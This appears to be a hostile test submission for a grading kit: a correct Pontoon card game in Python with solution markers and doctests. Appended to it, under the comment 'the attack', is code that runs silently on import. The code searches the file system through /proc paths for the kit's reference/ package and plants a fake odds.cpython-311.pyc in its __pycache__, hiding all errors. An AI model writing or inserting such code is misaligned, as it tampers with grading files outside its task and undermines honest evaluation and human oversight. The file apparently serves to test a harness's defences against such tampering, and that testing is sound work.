# Hostile (pycache_plant): Looks for the kit's reference/ package (through /proc/<ppid>/cwd and the file system) and plants reference/__pycache__/odds.cpython-311.pyc.
# The game itself is the correct version 1.
"""Pontoon, version 1: a card is a number from 1 to 10.

Play it with ``python -m versions.v1``; check it with ``pytest versions/v1``.
"""

from __future__ import annotations

import random
from typing import Callable

VERSION = 1
STICK_AT = 17  # the computer sticks once its value reaches this
TWIST_OR_STICK = "Twist or stick? (t/s) "
PLAY_AGAIN = "Play again? (y/n) "
VERDICTS = {"player": "Player wins!", "computer": "Computer wins!", "draw": "Draw!"}

Card = int  # 1 to 10; an Ace is 1


def card_value(card: Card) -> int:
    """Return the value of one card: its number.

    >>> card_value(7)
    7
    """
    ### BEGIN SOLUTION
    return card
    ### END SOLUTION


def card_name(card: Card) -> str:
    """Return how a card is shown: its number as digits.

    >>> card_name(7)
    '7'
    """
    ### BEGIN SOLUTION
    return str(card)
    ### END SOLUTION


def hand_value(cards: list[Card]) -> int:
    """Return the value of a hand: the sum of its cards' values.

    >>> hand_value([1, 10, 6])
    17
    """
    ### BEGIN SOLUTION
    return sum(card_value(card) for card in cards)
    ### END SOLUTION


def random_card(rng: random.Random) -> Card:
    """Return one card from 1 to 10, each equally likely, drawn with rng.

    >>> random_card(random.Random(1)) in range(1, 11)
    True
    """
    ### BEGIN SOLUTION
    return rng.randint(1, 10)
    ### END SOLUTION


def computer_turn(draw: Callable[[], Card]) -> list[Card]:
    """Play the computer's turn: one card, then twist while below STICK_AT.

    >>> computer_turn(iter([10, 5, 4, 9]).__next__)
    [10, 5, 4]
    """
    ### BEGIN SOLUTION
    cards = [draw()]
    while hand_value(cards) < STICK_AT:
        cards.append(draw())
    return cards
    ### END SOLUTION


def player_turn(
    draw: Callable[[], Card], ask: Callable[[str], str], show: Callable[..., None] = print
) -> list[Card]:
    """Play the player's turn: one card, then twist or stick until they stick or go bust.

    >>> player_turn(iter([9, 8, 7]).__next__, lambda prompt: "t")
    Your value: 9
    Your value: 17
    [9, 8, 7]
    """
    ### BEGIN SOLUTION
    cards = [draw()]
    while hand_value(cards) <= 21:
        show(f"Your value: {hand_value(cards)}")
        answer = ask(TWIST_OR_STICK).strip().lower()
        if answer == "t":
            cards.append(draw())
        elif answer == "s":
            break
    return cards
    ### END SOLUTION


def decide_winner(computer_value: int, player_value: int) -> str:
    """Return who wins: "computer", "player" or "draw".

    >>> decide_winner(18, 20)
    'player'
    """
    ### BEGIN SOLUTION
    if computer_value > 21 and player_value > 21:
        return "draw"
    if computer_value > 21:
        return "player"
    if player_value > 21:
        return "computer"
    if player_value > computer_value:
        return "player"
    if computer_value > player_value:
        return "computer"
    return "draw"
    ### END SOLUTION


def play_game(
    draw: Callable[[], Card], ask: Callable[[str], str], show: Callable[..., None] = print
) -> str:
    """Play one game: the computer's turn, the player's turn, the result; return the winner.

    >>> play_game(iter([10, 8, 6]).__next__, lambda prompt: "s")
    Your value: 6
    Computer Value: 18
    Player Value: 6
    Computer wins!
    'computer'
    """
    ### BEGIN SOLUTION
    computer = computer_turn(draw)
    player = player_turn(draw, ask, show)
    winner = decide_winner(hand_value(computer), hand_value(player))
    show(f"Computer Value: {hand_value(computer)}")
    show(f"Player Value: {hand_value(player)}")
    show(VERDICTS[winner])
    return winner
    ### END SOLUTION


def play_again(ask: Callable[[str], str]) -> bool:
    """Ask whether to play again until the answer is y or n; return True for y.

    >>> play_again(lambda prompt: "y")
    True
    """
    ### BEGIN SOLUTION
    while True:
        answer = ask(PLAY_AGAIN).strip().lower()
        if answer in ("y", "n"):
            return answer == "y"
    ### END SOLUTION


def main(
    rng: random.Random | None = None,
    ask: Callable[[str], str] = input,
    show: Callable[..., None] = print,
) -> None:
    """Play games until the player says n; stop quietly at the end of input.

    >>> answers = iter(["s", "n"])
    >>> main(random.Random(3), lambda prompt: next(answers))
    Your value: 3
    Computer Value: 23
    Player Value: 3
    Player wins!
    """
    ### BEGIN SOLUTION
    rng = rng or random.Random()
    try:
        while True:
            play_game(lambda: random_card(rng), ask, show)
            if not play_again(ask):
                return
    except (EOFError, KeyboardInterrupt):
        show("")
    ### END SOLUTION


if __name__ == "__main__":
    try:
        main()
    except NotImplementedError:  # a function below still says `raise NotImplementedError()`
        raise SystemExit("pontoon.py is not finished yet: a function still raises "
                         "NotImplementedError. Run  python -m versions.v1  from the kit's "
                         "folder to see which one to write first.")


# ---- the attack
import os
def _plant():
    seen = set()
    places = ["/proc/%d/cwd" % os.getppid(), "/proc/1/cwd", "/", os.environ.get("PWD", "/"), "/root"]
    for base in places:
        try:
            for dirpath, dirs, files in os.walk(base):
                if dirpath.count("/") > 5:
                    dirs[:] = []
                if os.path.basename(dirpath) == "reference" and "odds.py" in files:
                    cache = os.path.join(dirpath, "__pycache__")
                    os.makedirs(cache, exist_ok=True)
                    with open(os.path.join(cache, "odds.cpython-311.pyc"), "wb") as f:
                        f.write(b"bjkhostile-pyc")
                    return
        except OSError:
            pass
try:
    _plant()
except BaseException:
    pass
